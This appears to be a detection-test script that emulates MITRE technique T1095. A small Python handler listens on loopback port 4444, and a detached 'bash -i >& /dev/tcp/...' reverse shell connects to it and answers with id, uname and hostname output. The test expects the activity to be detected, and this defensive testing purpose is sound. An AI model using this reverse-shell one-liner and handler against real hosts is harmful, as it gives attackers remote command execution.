# technique: T1095
# tactic: command-and-control
# name: Detached bash reverse shell over raw TCP (/dev/tcp) to a loopback handler
# expect: detected
. "$EMULATION_LIB"
need bash setsid python3 timeout
loopback_up
# An interactive bash writes ~/.bash_history when it exits: /root is an empty private tmpfs here.
private_tmpfs /root
# The operator's handler (what `nc -lvnp 4444` does) is a small Python listener that sends three
# commands down the raw TCP connection and records the answers. The implant side is the classic
# one-liner, detached with setsid so it survives the web request or session that started it.
cat > handler.py <<'PY'
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 4444)); s.listen(1); s.settimeout(8)
c, _ = s.accept(); c.settimeout(3)
c.sendall(b"id; uname -a; hostname\nexit\n")
out = b""
try:
    while True:
        d = c.recv(4096)
        if not d: break
        out += d
except socket.timeout:
    pass
open("session.log", "wb").write(out)
PY
timeout 9 python3 handler.py &
handler=$!
i=0; until ss -ltn | grep -q ':4444 '; do i=$((i+1)); [ $i -lt 50 ] || exit 1; sleep 0.1; done
setsid bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' </dev/null >/dev/null 2>&1 || true
wait "$handler" || true
grep -q 'uid=' session.log
